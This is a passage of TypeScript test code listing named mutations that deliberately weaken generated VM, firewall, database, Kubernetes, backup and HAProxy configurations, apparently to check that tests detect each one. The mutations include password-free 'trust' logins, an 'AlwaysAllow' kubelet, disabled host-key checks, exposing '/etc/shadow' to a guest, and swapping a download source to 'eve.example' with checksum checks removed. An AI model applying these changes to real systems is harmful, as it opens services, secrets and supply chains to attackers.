  'a card is on another bridge': card((nic) => set(nic, { source: { bridge: { bridge: 'br9' } } })),
  'a card is not isolated': card((nic) => nic.port_options !== undefined && set(nic, { port_options: undefined })),
  'another card is gone': cardsOf(({ interfaces }) => interfaces.pop() !== undefined),
  'another card has no filter': cardsOf(({ interfaces }) => set(interfaces[1], { filter_ref: undefined })),
  'cards have changed their places': cardsOf(({ interfaces }) => interfaces.reverse() !== undefined),
  'cards have changed their Ethernet addresses': swapped('mac'),
  'cards have changed their filters': swapped('filter_ref'),
  'cards have changed their networks': swapped('source'),
  'a machine has no CD': resources('libvirt_domain', ({ devices }) => {
    const left = devices.disks.filter((disk: Json) => disk.device !== 'cdrom');
    return left.length < devices.disks.length && set(devices, { disks: left });
  }),
  'a machine has two cards': resources('libvirt_domain', ({ devices }) => devices.interfaces.push(devices.interfaces[0]) > 0),
  'a network has another address': resources('libvirt_network', ({ ips }) => ips?.[0] && set(ips[0], { address: '192.0.2.1' })),
  'a network is larger': resources('libvirt_network', ({ ips }) => ips?.[0] && set(ips[0], { prefix: 16 })),
  'a network forwards in another way': resources('libvirt_network', (network) =>
    set(network, { forward: { mode: network.forward?.mode === 'nat' ? 'route' : 'nat' } }),
  ),
  'a network does not forward': resources('libvirt_network', (network) => set(network, { forward: undefined })),
  'a filter is not defined': locals('filter_rules', () => undefined),
  'a filter has another name': locals('filter', (filter) => ({ ...filter, name: 'other' })),
  'a name is not answered (when the network is made)': resources('libvirt_network', ({ dns }) => dns?.host?.pop() !== undefined),
  'a name has another address (when the network is made)': resources(
    'libvirt_network',
    ({ dns }) => dns?.host?.[0] !== undefined && set(dns.host[0], { ip: '192.0.2.9' }),
  ),
  'a name is another (when the network is made)': resources(
    'libvirt_network',
    ({ dns }) => dns?.host?.[0] !== undefined && set(dns.host[0].hostnames[0], { hostname: 'other' }),
  ),
  'no names are answered': resources('libvirt_network', ({ dns }) => dns !== undefined && set(dns, { enable: 'no' })),
  'a reservation is gone (when the network is made)': resources('libvirt_network', ({ ips }) => ips?.[0]?.dhcp?.hosts?.pop() !== undefined),
  'a reservation is for another address (when the network is made)': resources(
    'libvirt_network',
    ({ ips }) => ips?.[0]?.dhcp?.hosts?.[0] !== undefined && set(ips[0].dhcp.hosts[0], { ip: '192.0.2.9' }),
  ),
  'an entry of a network is gone (later)': locals('network_entry', () => undefined),
  'an entry of a network has another address (later)': locals('network_entry', (entry) => ({
    ...entry,
    entry: entry.entry.replace(/ip='[\d.]+'/, "ip='192.0.2.9'"),
  })),
  'an entry of a network is of another (later)': locals('network_entry', (entry) => ({ ...entry, network: 'other' })),
};

const disk = (which: (drive: Json) => boolean, edit: (drive: Json, others: Json) => Json): Kind =>
  resources('libvirt_domain', ({ devices }) => {
    const found = devices.disks.find(which);
    return found !== undefined && edit(found, devices.disks) !== false;
  });
const isData = ({ serial }: Json): boolean => serial !== undefined;
const isCd = ({ device }: Json): boolean => device === 'cdrom';
/** A disk that is a volume of a pool. */
const isVolume = (drive: Json): boolean => !isCd(drive) && drive.source.volume !== undefined;

/** What machines are given of the storage of their hosts. */
const IN_STORAGE: Readonly<Record<string, Kind>> = {
  "a disk is another machine's": disk(isVolume, ({ source }) => set(source.volume, { volume: 'other-root.qcow2' })),
  'a machine has one more disk': disk(isVolume, (drive, all) =>
    all.push({ ...drive, serial: undefined, source: { volume: { pool: 'default', volume: 'other-data.qcow2' } } }),
  ),
  'a disk with data is not attached': disk(isData, (drive, all) => all.splice(all.indexOf(drive), 1)),
  'a disk is called otherwise in its guest': disk(isData, (drive) => set(drive, { serial: 'other' })),
  'a disk may be given to several at once': disk(
    (drive) => !drive.shareable && !isCd(drive),
    (drive) => set(drive, { shareable: true }),
  ),
  'a disk cannot be written on': disk(
    (drive) => !drive.read_only && !isCd(drive),
    (drive) => set(drive, { read_only: true }),
  ),
  'a CD can be written on': disk(isCd, (drive) => set(drive, { read_only: undefined })),
  "a CD is another machine's disk": disk(isCd, ({ source }) => set(source.volume, { volume: 'other-root.qcow2' })),
  'a disk is a file of the host': disk(isVolume, (drive) => set(drive, { source: { file: { file: '/etc/shadow' } } })),
  'a folder of the host is seen': resources('libvirt_domain', ({ devices }) =>
    set(devices, { filesystems: [{ source: { mount: { dir: '/etc' } }, target: { dir: 'etc' } }] }),
  ),
  'a disk with data may be destroyed': resources(
    'libvirt_volume',
    ({ lifecycle }) => lifecycle?.prevent_destroy === true && set(lifecycle, { prevent_destroy: undefined }),
  ),
  'a disk is made anew when its size changes': resources(
    'libvirt_volume',
    ({ lifecycle }) => lifecycle?.ignore_changes?.includes('capacity') && set(lifecycle, { ignore_changes: [] }),
  ),
  'a disk lies in another pool': resources(
    'libvirt_volume',
    (volume) => volume.lifecycle?.ignore_changes?.includes('capacity') && set(volume, { pool: 'other' }),
  ),
};

const devicesOf = (edit: (devices: Json, machine: Json) => Json): Kind =>
  resources('libvirt_domain', (machine) => edit(machine.devices, machine));

/** What machines have as virtual hardware, and of their hosts. */
const IN_HARDWARE: Readonly<Record<string, Kind>> = {
  'a machine has a device of its host': devicesOf((devices) =>
    set(devices, { hostdevs: [{ managed: true, subsys_pci: { source: { address: { domain: 0, bus: 9, slot: 0, function: 0 } } } }] }),
  ),
  'a machine lacks a device of its host': devicesOf(({ hostdevs }) => hostdevs?.pop() !== undefined),
  'a machine has another device of its host': devicesOf(
    ({ hostdevs }) => hostdevs?.[0]?.subsys_pci && set(hostdevs[0].subsys_pci.source.address, { slot: 1 }),
  ),
  'a screen is on the network': devicesOf(({ graphics }) => graphics?.[0] && set(graphics[0].vnc, { listen: '0.0.0.0' })),
  'a machine has a screen that nobody asked for': devicesOf(
    (devices) => devices.graphics === undefined && set(devices, { graphics: [{ vnc: { auto_port: true, listen: '127.0.0.1' } }] }),
  ),
  'a serial port is on the network': devicesOf(
    ({ serials }) => serials?.[0] && set(serials[0], { source: { tcp: { mode: 'bind', host: '0.0.0.0', service: '4555' } } }),
  ),
  'a machine shares memory with others': devicesOf((devices) => set(devices, { shmems: [{ name: 'common' }] })),
  'a machine has a way to its host': devicesOf(
    (devices) => devices.vsock === undefined && set(devices, { vsock: { model: 'virtio', cid: { auto: 'yes' } } }),
  ),
  'a vsock has another context id': devicesOf(({ vsock }) => vsock !== undefined && set(vsock.cid, { address: '99' })),
  'USB is led to a machine over the network': devicesOf((devices) => set(devices, { redir_devs: [{ source: { tcp: { mode: 'bind' } } }] })),
  'nothing watches over a machine': devicesOf((devices) => devices.watchdogs !== undefined && delete devices.watchdogs),
  'a machine that hangs is left alone': devicesOf(({ watchdogs }) => watchdogs?.[0] && set(watchdogs[0], { action: 'none' })),
  'random numbers are unlimited': devicesOf(({ rngs }) => rngs?.[0]?.rate !== undefined && delete rngs[0].rate),
  'a machine has the processor of its host': resources(
    'libvirt_domain',
    ({ cpu }) => cpu !== undefined && cpu.mode !== 'host-passthrough' && set(cpu, { mode: 'host-passthrough' }),
  ),
  'a feature of a processor is left in': resources('libvirt_domain', ({ cpu }) => cpu?.features?.pop() !== undefined),
  'a machine runs on processors of another': resources('libvirt_domain', (machine) => set(machine, { vcpu_cpuset: '0-63' })),
  'a pinned processor is another': resources(
    'libvirt_domain',
    ({ cpu_tune }) => cpu_tune !== undefined && set(cpu_tune.vcpu_pin[0], { cpu_set: '0' }),
  ),
  'memory comes from another node': resources(
    'libvirt_domain',
    ({ numa_tune }) => numa_tune?.memory !== undefined && set(numa_tune.memory, { nodeset: '0-1' }),
  ),
  'memory is not locked': resources(
    'libvirt_domain',
    ({ memory_backing }) => memory_backing?.memory_locked === true && delete memory_backing.memory_locked,
  ),
  'memory is merged with that of others': resources(
    'libvirt_domain',
    ({ memory_backing }) => memory_backing?.memory_nosharepages === true && delete memory_backing.memory_nosharepages,
  ),
  'memory is of other pages': resources(
    'libvirt_domain',
    ({ memory_backing }) => memory_backing?.memory_huge_pages !== undefined && delete memory_backing.memory_huge_pages,
  ),
  'a machine has less memory': resources('libvirt_domain', (machine) => set(machine, { memory: machine.memory - 1 })),
  'a machine has more processors': resources('libvirt_domain', (machine) => set(machine, { vcpu: machine.vcpu + 1 })),
};

const IN_GUESTS: Readonly<Record<string, Kind>> = {
  'nftables: a port is not let in': removed(/^\s+(ip saddr \S+|meta nfproto ipv4) (tcp|udp) dport \d+ accept$/),
  'nftables: another port': replaced(/(?<=dport )(\d+)(?= accept$)/, (port) => next(port)),
  'nftables: from anyone': replaced(/(?<=^\s+)ip saddr \S+ /, ''),
  'nftables: from fewer': replaced(/(?<=ip saddr )[\d.]+\/\d+/, '10.20.77.0/30'),
  'nftables: a protocol is another': replaced(/tcp(?= dport)/, 'udp'),
  'nftables: the rest is let in': replaced(/policy drop;/, 'policy accept;'),
  'nftables: the rest may be sent on': replaced(/(?<=hook prerouting priority -110; )policy drop;/, 'policy accept;'),
  'nftables: everybody may be sent on': replaced(/(?<=^\s+)fib daddr type != local accept/, 'ip saddr 0.0.0.0/0 accept'),
  'nftables: nothing is asked before packets are sent on': replaced(/hook prerouting priority -110/, 'hook prerouting priority -90'),
  'nftables: what is let in is dropped before': removed(/^\s+jump baseline$/),
  'nftables: replies are dropped': removed(/ct state established,related accept/),
  'nftables: pings are dropped': removed(/meta l4proto \{ icmp, icmpv6 \} accept/),
  'nftables: neighbours of nodes are dropped': removed(/^\s+ip saddr \S+ accept$/),
  'firewalld: the rest is let in': replaced(/<zone target="DROP">/, '<zone target="ACCEPT">'),
  'firewalld: a port is another': replaced(/(?<=port=")(\d+)/, (port) => next(port)),
  'firewalld: from fewer': replaced(/(?<=<source address=")[^"]+/, '10.20.77.0/30'),
  'firewalld: from anyone': replaced(/<source address="[^"]+"\/>/, ''),
  'firewalld: another zone is the default': replaced(/--set-default-zone=isthmus/, '--set-default-zone=public'),
  'Windows: a port is not let in': removed(
    /(netsh (advf|f)irewall (firewall )?add .*(localport|port)=)|(New-NetFirewallRule .*-LocalPort)/,
  ),
  'Windows: from anyone': replaced(/remoteip=\S+| scope=CUSTOM addresses=\S+| -RemoteAddress \S+/, ''),
  'Windows: another port': replaced(/(?<=(?:localport|protocol=TCP port)=|-LocalPort )(\d+)/, (port) => next(port)),
  'Windows: the rest is let in': replaced(/blockinbound|DefaultInboundAction Block|opmode mode=ENABLE/, (found) =>
    found.replace('block', 'allow').replace('Block', 'Allow').replace('ENABLE', 'DISABLE'),
  ),
  'PostgreSQL: a client is not listed': removed(/^\s+host +"app" +"\w+" +(?!127)\S+ +scram/),
  'PostgreSQL: more clients are listed': replaced(/(?<=^\s+host +"app" +"\w+" +(?!127)[\d.]+\/)\d+/, (prefix) => `${Number(prefix) - 1}`),
  'PostgreSQL: nobody is asked for a password': replaced(/(?<=^\s+host +"app" +"\w+" +(?!127)\S+ +)scram-sha-256/, 'trust'),
  'PostgreSQL: accounts of the machine may be anybody': replaced(/(?<=^\s+local +all +all +)peer map=isthmus/, 'trust'),
  'PostgreSQL: an account of the machine is another role, too': replaced(/(?<=^\s+isthmus +)postgres(?= +")/, 'eve'),
  'PostgreSQL: it listens to itself alone': replaced(/(?<=listen_addresses = ')0\.0\.0\.0/, '127.0.0.1'),
  'PostgreSQL: another port': replaced(/(?<=^\s+port = )5432/, '5433'),
  'PostgreSQL: another list of clients': removed(/hba_file = /),
  'PostgreSQL: another role owns the database': replaced(/(?<=^\s+host +"app" +")keeper/, 'other'),
  'PostgreSQL: another role runs the SQL of a new database': replaced(/(?<=--username=)keeper/, 'other'),
  'PostgreSQL: a role is let into another database': replaced(/(?<=^\s+host +")app(?=" +"clerk")/, 'audit'),
  'PostgreSQL: a role is let in from elsewhere': replaced(
    /(?<=^\s+host +"app" +"clerk" +(?!127)[\d.]+\/)\d+/,
    (prefix) => `${Number(prefix) - 1}`,
  ),
  'PostgreSQL: a role that reads writes': replaced(/(?<=GRANT )SELECT(?= ON ALL TABLES IN SCHEMA %I TO "reader")/, 'SELECT, INSERT'),
  'PostgreSQL: a role that reads will write': replaced(/(?<=GRANT )SELECT(?= ON TABLES TO "reader")/, 'SELECT, INSERT'),
  'PostgreSQL: a role may do more': replaced(/^(\s+)GRANT CONNECT ON DATABASE "app" TO "reader";$/, '$1GRANT "keeper" TO "reader";'),
  'PostgreSQL: what a role may do is not given': removed(/ < \/etc\/isthmus\/rights\/\w+\.sql$/),
  'PostgreSQL: a role has the password of another': replaced(/(?<=base64encode\(var\.\w+_)reader(?=_verifier)/, 'clerk'),
  'MySQL: a role that reads writes': replaced(
    /(?<=GRANT )SELECT, SHOW VIEW(?= ON .*'reader')/,
    'SELECT, SHOW VIEW, INSERT, UPDATE, DELETE',
  ),
  'MySQL: a role that reads owns': replaced(/(?<=GRANT )SELECT, SHOW VIEW(?= ON .*'reader')/, 'ALL PRIVILEGES'),
  'MySQL: a role has a right elsewhere': replaced(/(?<=GRANT SELECT.* ON \\`)app(?=\\`.*'clerk')/, 'audit'),
  'Redis: a user writes what it is to read': replaced(/%R~stock:/, '~stock:'),
  'Redis: a user reads all keys': replaced(/(?<=%R~)stock:\*/, '*'),
  'Redis: a user that reads writes': replaced(/(?<="user reader .*\+@read)(?= \+subscribe)/, ' +@write'),
  'Redis: a user may do everything': replaced(/(?<="user clerk .*)\+@connection .*(?=")/, '+@all'),
  'RabbitMQ: a user that reads writes': replaced(/(?<=\\"reader\\".*\\"write\\":\\")(?=\\")/, '.*'),
  'RabbitMQ: a user declares queues': replaced(/(?<=\\"clerk\\".*\\"configure\\":\\")(?=\\")/, '.*'),
  'RabbitMQ: a user has another virtual host': replaced(/(?<=\\"clerk\\".*\\"vhost\\":\\")app/, 'other'),
  'MySQL: another role runs the SQL of a new database': replaced(/(?<=--user=)keeper/, 'other'),
  'MySQL: the SQL is run in another database': replaced(/(?<=--user=keeper --database=)app/, 'mysql'),
  'the SQL of a new database is other SQL': replaced(/CREATE TABLE shelf/, 'CREATE TABLE wall'),
  'the SQL of a new database is not run': removed(/ < \/etc\/isthmus\/initial-sql\/\w+\.sql /),
  'MySQL: a client is not listed': replaced(/(?<=for host in .*) '(?!127|localhost)[\d./]+'/, ''),
  'MySQL: anyone is listed': replaced(/(?<=for host in .*)'(?!127|localhost)[\d./]+'/, "'%'"),
  'MySQL: it listens to itself alone': replaced(/(?<=bind_address = )0\.0\.0\.0/, '127.0.0.1'),
  'MySQL: another port': replaced(/(?<=^\s+port = )3306/, '3307'),
  'a backup is made at another time': replaced(/(?<=OnCalendar=\*-\*-\* )0[12](?=:00:00 UTC)/, '05'),
  'a backup is not made': removed(/systemctl enable --now isthmus-backup\.timer/),
  'fewer backups are kept': replaced(/(?<=--keep-last=|dumps \| tail -n \+)(?:[3-9]|\d\d+)/, '1'),
  'a backup stays on the machine': removed(/ExecStartPost=!/),
  'backups go to another server': replaced(/(?<=^\s+HostName |--repo=s3:https:\/\/|'mount -t nfs -o \S+ )[\w.-]+/, '192.0.2.9'),
  'backups go into another folder': replaced(/(?<=--repo=(?:sftp:|s3:https:\/\/|\/run\/isthmus-backup)\S*)-\w+(?= "\$@"$)/, '-other'),
  'backups are sent to whoever answers': replaced(/(?<=StrictHostKeyChecking )yes/, 'no'),
  'backups are sent to the holder of another key': replaced(/(?<=backup-target ssh-ed25519 A+)C3/, 'C4'),
  'backups are sent by another account': replaced(/(?<=^\s+User )backups/, 'root'),
  'a log is sent at other times': replaced(/(?<=OnCalendar=\*-\*-\* \*:0\/)\d+/, '59'),
  'a log is not sent': removed(/systemctl enable --now isthmus-backup-logs\.timer/),
  'a log is not kept until it is sent': replaced(/(?<=archive_mode = )on/, 'off'),
  'a log is thrown away': replaced(/(?<=archive_command = ').*(?=')/, '/bin/true'),
  'a log is thrown away without a word': removed(/touch "\$spool\/\.gap"/),
  'a log has no copies of the data to begin with': removed(/ExecStartPost=!\/usr\/local\/sbin\/isthmus-backup-base/),
  'fewer copies of the data are kept': replaced(/(?<=isthmus-base to(?: ''| from) \| (?:head -n -|tail -n ))[2-9]/, '1'),
  'nobody may copy the data': removed(/local {2}replication {2}"postgres"/),
  'no way leads back to a point in time': removed(/ = --to-time \]; then shift/),
  'another time is brought back': replaced(/recovery_target_time=.*/, 'recovery_target=immediate'),
  'an exporter listens at another port': replaced(/(?<=--web\.listen-address=0\.0\.0\.0:)9\d+/, '9999'),
  'an exporter is begun that nobody asks for': replaced(/(?<=systemd\/system\/prometheus-)node(?=-exporter\.service\.d)/, 'apache'),
  'an exporter is not begun': replaced(/(?<=^\s+for unit in ).*prometheus-\w+-exporter\.service(?=; do)/, 'other.service'),
  'nobody begins exporters': removed(/^\s+- \/usr\/local\/sbin\/isthmus-exporters$/),
  'an exporter is not installed': removed(/^\s+- prometheus-\w+-exporter$/),
  'an exporter speaks in the clear': replaced(/(?<=ExecStart=)\/usr\/local\/sbin\/isthmus-exporter-tls /, ''),
  'an exporter of keys speaks in the clear': replaced(/ --tls-server-key-file=\S+/, ''),
  'exporters get another certificate': replaced(/(?<=cert_file: \/etc\/isthmus\/monitoring\/)certificate/, 'other'),
  'exporters get no certificate': removed(/mv "\/etc\/isthmus\/monitoring\/\$file/),
  'PostgreSQL: its exporter is an administrator': replaced(/(?<=GRANT )pg_monitor(?= TO "prometheus")/, 'postgres'),
  'PostgreSQL: its exporter sees nothing': removed(/GRANT pg_monitor/),
  'MySQL: its exporter reads all tables': replaced(/(?<=GRANT SELECT ON )performance_schema(?=\.\* TO 'prometheus')/, '*'),
  'MySQL: its exporter is let in by a password': replaced(
    /(?<=ALTER USER 'prometheus'.*)IDENTIFIED (WITH auth_socket|VIA unix_socket)/,
    "IDENTIFIED BY 'x'",
  ),
  'MySQL: its exporter logs in as somebody else': replaced(/(?<=^\s+user = )prometheus/, 'root'),
  'Redis: its exporter reads all keys': replaced(/(?<=user prometheus on #\$watcher )-@all/, '~* +@read'),
  'Redis: its exporter needs no password': replaced(/(?<=user prometheus on )#\$watcher/, 'nopass'),
  'RabbitMQ: its metrics are at another port': replaced(/(?<=prometheus\.\w+\.port = )15692/, '15693'),
  'RabbitMQ: its metrics are told in the clear': replaced(/(?<=^\s+prometheus\.)ssl(?=\.port)/, 'tcp'),
  'RabbitMQ: it tells no metrics': removed(/enable --offline rabbitmq_prometheus/),
  'PostgreSQL: logins are taken in the clear': replaced(/(?<=^\s+)hostssl(?= +"app" +"\w+" +(?!127))/, 'host'),
  'PostgreSQL: TLS is off': replaced(/(?<=^\s+ssl = )on/, 'off'),
  'MySQL: logins are taken in the clear': replaced(/ && echo NONE \|\| echo SSL/, ' && echo NONE || echo NONE'),
  'MySQL: a renewed certificate is not taken': removed(/^\s+ssl_ca = /),
  'Redis: logins are taken in the clear': replaced(/(?<=^\s+port )0/, '6379'),
  'MongoDB: logins are taken in the clear': replaced(/(?<=mode: )requireTLS/, 'preferTLS'),
  'MongoDB: TLS that is broken': replaced(/(?<=disabledProtocols: ).+/, 'none'),
  'MongoDB: a renewed certificate is not taken': replaced(/rotateCertificates(?=: 1,)/, 'ping'),
  'MongoDB: its certificate comes without its key': removed(/\| put 0640 \/dev\/stdin/),
  'RabbitMQ: logins are taken in the clear': removed(/listeners\.tcp = none/),
  'a server proves itself by another variable': replaced(/(?<=var\.\w+_tls_)key/, 'certificate'),
  'a server proves itself by another file': replaced(/(?<=^\s+key=)\/etc\/pki\/db\.key/, '/etc/pki/other.key'),
  'anybody may have signed the certificate of a server': removed(/openssl verify -purpose sslserver/),
  'somebody else has to have signed the certificate of a server': replaced(
    /(?<=^\s+trusted=)\/etc\/isthmus\S+/,
    '/etc/isthmus/database-tls/names',
  ),
  'a certificate is looked at for other names': replaced(/^(\s+)\w+\.encrypted\.svc$/, '$1other.encrypted.svc'),
  'nobody notices a new certificate of a server': removed(/systemctl enable --now isthmus-database-tls\.path/),
  'the certificate of a server is never brought': removed(/^\s+\/usr\/local\/sbin\/isthmus-database-tls$/),
  'PostgreSQL: a stranger may have all that is written': replaced(/(?<=replication +"replicator" +)[\d.]+(?=\/32)/, '192.0.2.99'),
  'PostgreSQL: anybody may have all that is written': replaced(/(?<=replication +"replicator" +)[\d.]+\/32/, '0.0.0.0/0'),
  'PostgreSQL: a standby is let in nowhere': removed(/replication +"replicator"/),
  'MongoDB: a user that reads writes': replaced(/(?<="reader": \[\{"role":")read","db":"app(?=")/, 'isthmus-writes-app","db":"admin'),
  'MongoDB: a user that writes makes collections': replaced(/(?<="insert",")remove(?=")/, 'createCollection'),
  'MongoDB: a user writes elsewhere': replaced(/(?<="resource":\{"db":")app(?=")/, 'other'),
  'PostgreSQL: nothing is kept for a standby': removed(/pg_create_physical_replication_slot/),
  'PostgreSQL: a standby follows in the clear': replaced(/hostssl(?= +replication)/, 'host'),
  'MySQL: a stranger may have all that is written': replaced(/(?<=for replica in )'[\d.]+'/, "'192.0.2.99'"),
  'MySQL: two servers have one number': replaced(/(?<=server_id = )\d+/, '1'),
  'a standby follows another machine': replaced(/(?<=exec \/usr\/local\/sbin\/isthmus-standby )\w+(?=; fi)/, 'ledger-3'),
  'a standby makes data of its own': removed(/exec \/usr\/local\/sbin\/isthmus-standby/),
  'a standby follows by the password of others': replaced(/(?<=var\.)\w+(?=_replication_password)/, 'other'),
  'a standby is told of other machines': replaced(/(?<=^\s+ledger-2 )[\d.]+(?= ledger-2)/, '10.40.1.99'),
  'Redis: another port': replaced(/(?<=^\s+port )6379/, '6380'),
  'Redis: it listens to itself alone': replaced(/(?<=^\s+bind 127\.0\.0\.1) [\d.]+/, ''),
  'Redis: nobody is asked for a password': replaced(/#\$verifier/, 'nopass'),
  'Redis: another user': replaced(/(?<="user )default/, 'other'),
  'Redis: its user is an administrator': replaced(/ -@admin/, ''),
  'MongoDB: another port': replaced(/(?<=^\s+port: )27017/, '27018'),
  'MongoDB: it listens to itself alone': replaced(/(?<=bindIp: 127\.0\.0\.1),[\d.]+/, ''),
  'MongoDB: nobody is asked for a password': replaced(/(?<=authorization: )enabled/, 'disabled'),
  'MongoDB: passwords are proven by less': replaced(/(?<=authenticationMechanisms: )SCRAM-SHA-256/, 'SCRAM-SHA-1'),
  'MongoDB: another user': replaced(/(?<=ISTHMUS_ROLE=)app/, 'other'),
  'MongoDB: its owner is an administrator': replaced(/(?<="role":")dbAdmin(?=")/, 'dbOwner'),
  'MongoDB: its users have no roles of its own': removed(/isthmus-mongosh \/etc\/isthmus\/mongodb\/own\.js/),
  'MongoDB: it comes from somewhere else': replaced(/(?<=bookworm\/mongodb-org\/)8\.0/, '7.0'),
  'RabbitMQ: another port': replaced(/(?<=listeners\.tcp\.2 = [\d.]+:)5672/, '5673'),
  'RabbitMQ: it listens to itself alone': removed(/listeners\.tcp\.2 = /),
  'RabbitMQ: another user': replaced(/(?<=\{\\"user\\":\\")app/, 'other'),
  'RabbitMQ: another virtual host': replaced(/(?<=\\"vhost\\":\\")app/, 'other'),
  'RabbitMQ: its user is an administrator': replaced(/(?<=\\"tags\\":\[)/, '\\"administrator\\"'),
  'RabbitMQ: everybody knows a user': removed(/delete_user guest/),
  'a node: nothing makes it part of its cluster': removed(/systemctl enable isthmus-kubernetes\.service/),
  'a node: it joins another cluster': replaced(/(?<=apiServerEndpoint: )\S+/, 'api.other.internal:6443'),
  'a node: the cluster that it makes is called otherwise': replaced(/(?<=controlPlaneEndpoint: )\S+/, 'api.other.internal:6443'),
  'a node: API servers are elsewhere': replaced(/(?<=for address in )[\d. ]+(?=;)/, '192.0.2.9'),
  'a node: pods have other addresses': replaced(/(?<=podSubnet: )\S+/, '10.250.0.0/16'),
  'a node: Services have other addresses': replaced(/(?<=serviceSubnet: )\S+/, '10.251.0.0/16'),
  'a node: its kubelet answers those without a name': replaced(/(?<=^ +)enabled: false$/, 'enabled: true'),
  'a node: its kubelet does what anybody asks': replaced(/mode: Webhook/, 'mode: AlwaysAllow'),
  'a node: its kubelet has a port in clear': replaced(/readOnlyPort: 0/, 'readOnlyPort: 10255'),
  'a node: it has another label': replaced(/(?<=--node-labels=)[^\s"]+/, 'disk=none'),
  'a node: nothing keeps pods away from it': replaced(/ --register-with-taints=[^\s"]+/, ''),
  'a node: something else keeps pods away from it': replaced(/(?<=--register-with-taints=)[^\s:"]+/, 'other'),
  'a node: pods only had better not come to it': replaced(/(?<=--register-with-taints=[^\s"]*:)NoSchedule/, 'PreferNoSchedule'),
  'a node: node ports are open': replaced(/- 127\.0\.0\.0\/8/, '- 0.0.0.0/0'),
  'a node: what it joins with can be read by all': locals('cloud_init_files', ({ user_data: text, ...rest }) => {
    const changed = text.replace(/(secrets\/join-token\n +permissions: )"0600"/, '$1"0644"');
    return changed !== text && { ...rest, user_data: changed };
  }),
  'k3s: it joins another cluster': replaced(/(?<=server: "?https:\/\/)api\.[^"]+/, 'api.other.internal:6443'),
  'k3s: it makes a cluster of its own': replaced(/^(\s+)server: .*/, '$1cluster-init: true'),
  'k3s: a server is an agent': replaced(/(?<=bin\/k3s )server$/, 'agent'),
  'k3s: pods have other addresses': replaced(/(?<=cluster-cidr: )\S+/, '10.250.0.0/16'),
  'k3s: Services have other addresses': replaced(/(?<=service-cidr: )\S+/, '10.251.0.0/16'),
  'k3s: its certificate holds for another name': replaced(/(?<=- )kubernetes\.example\.com/, 'other.example.com'),
  'k3s: its kubelet answers those without a name': replaced(/(?<=- "?anonymous-auth=)false/, 'true'),
  'k3s: its kubelet does what anybody asks': replaced(/(?<=- "?authorization-mode=)Webhook/, 'AlwaysAllow'),
  'k3s: its kubelet has a port in clear': replaced(/(?<=- "?read-only-port=)0/, '10255'),
  'k3s: node ports are open': removed(/- "?nodeport-addresses=/),
  'k3s: its kube-proxy tells everybody of itself': replaced(/(?<=metrics-bind-address=)127\.0\.0\.1/, '0.0.0.0'),
  'k3s: API servers ask nobody for a name': replaced(/(?<=- )"?profiling=false"?$/, '"anonymous-auth=true"'),
  'k3s: nobody writes down who did what': removed(/- "?audit-policy-file=/),
  'k3s: pods are held to nothing': removed(/- "?admission-control-config-file=/),
  'a node: pods are held to less': replaced(/(?<= enforce: "?)baseline/, 'privileged'),
  'k3s: nothing enforces NetworkPolicy': replaced(/^(\s+)flannel-backend: "?(?!none).*/, '$&\n$1disable-network-policy: true'),
  'k3s: packets between nodes are not encrypted': replaced(/(?<=flannel-backend: "?)wireguard-native/, 'vxlan'),
  'k3s: Secrets lie in etcd in clear': replaced(/(?<=secrets-encryption: )true/, 'false'),
  'k3s: it brings an edge of its own': removed(/^\s+- "?traefik"?$/),
  'k3s: whoever writes a HelmChart installs what he likes': removed(/disable-helm-controller/),
  'k3s: its kubeconfig can be read by all': replaced(/(?<=write-kubeconfig-mode: )"?0600"?/, '"0644"'),
  'k3s: volumes on its disks, which nobody asked for': removed(/^\s+- "?local-storage"?$/),
  'k3s: it is told something else': replaced(/^(\s+)protect-kernel-defaults: true/, '$1datastore-endpoint: "https://192.0.2.9"'),
  'k3s: it has another token': replaced(/(?<=token-file: )\S+/, '/etc/other'),
  'k3s: it has another label': replaced(/(?<=- "?disk=)ssd/, 'none'),
  'k3s: nothing keeps pods away from it': removed(/- "?dedicated=batch:NoSchedule/),
  'k3s: nothing keeps pods away from the control plane': removed(/- "?node-role\.kubernetes\.io\/control-plane:NoSchedule/),
  'k3s: another release': replaced(/(?<="\$version" = ')v[^']+/, 'v1.34.1+k3s1'),
  'k3s: it comes from somewhere else': replaced(/(?<=^\s*get ')https:\/\/mirror\.example/, 'https://eve.example'),
  'k3s: it is another program': replaced(/(?<=^\s*get '[^']+' )[0-9a-f]{2}/, '00'),
  'k3s: nobody looks what was downloaded': removed(/sha256sum --check/),
  'k3s: its images come from somewhere else': replaced(/(?<=- "?https:\/\/)registry\.example/, 'eve.example'),
  'k3s: it stands at another address': replaced(/(?<=node-ip: "?)[\d.]+/, '192.0.2.9'),
  'HAProxy: a server is gone': removed(/^\s+server /),
  'HAProxy: a server is another': replaced(/(?<=^\s+server \S+ )[\d.]+/, '192.0.2.9'),
  'HAProxy: a server has another port': replaced(/(?<=^\s+server \S+ [\d.]+:)(\d+)/, (port) => next(port)),
  'HAProxy: a server has another share': replaced(/(?<= weight )(\d+)/, (weight) => next(weight)),
  'HAProxy: a server has no share': replaced(/ weight \d+/, ''),
  'HAProxy: shares are not kept by turns': replaced(/(?<=balance )roundrobin/, 'leastconn'),
  'HAProxy: names in TLS lead to another backend': replaced(/(?<=use_backend )sealed\b/, 'rest'),
  'HAProxy: names in TLS are not waited for': removed(/^\s*tcp-request inspect-delay/),
  'HAProxy: whoever shows no name is let through': removed(/^\s*tcp-request content reject unless/),
  'HAProxy: TLS ends at the load balancer': replaced(/(?<=bind \*:9443)$/, ' ssl crt /etc/a.pem'),
  'HAProxy: another name in TLS leads there': replaced(/(?<=ssl_sni,lower -m str )shop/, 'office'),
  'HAProxy: every name in TLS leads there': replaced(/(?<=use_backend records) if .*ssl_fc_sni.*/, ''),
  'HAProxy: requests of each client are not counted': replaced(/(?<=conn_cur,)http_req_rate/, 'conn_rate'),
  'HAProxy: requests go to another backend': replaced(/(?<=use_backend )office/, 'shop'),
  'HAProxy: requests of all go to one backend': replaced(/(?<=default_backend )isthmus-nowhere/, 'office'),
  'HAProxy: requests for another host name': replaced(/(?<=-m (?:str|end) )(\.?office\.example)/, '$1.net'),
  'HAProxy: requests for another path': replaced(/(?<=path -m str )\/one/, '/two'),
  'HAProxy: requests for whatever begins with a path': replaced(/(?<=path -m beg \S+)\/(?= \})/, ''),
  'HAProxy: requests for every host name': replaced(
    /(?<= if )\{ req\.hdr\(host\),field\(1,:\),lower -m str \S+ \} (?=\{ path -m str \/one)/,
    '',
  ),
  'HAProxy: plain HTTP is not sent to HTTPS': removed(/^\s+http-request redirect /),
  'HAProxy: plain HTTP is sent to another port': replaced(
    /(?<=http-request redirect )scheme https/,
    'location https://%[req.hdr(host),field(1,:)]:444%[capture.req.uri]',
  ),
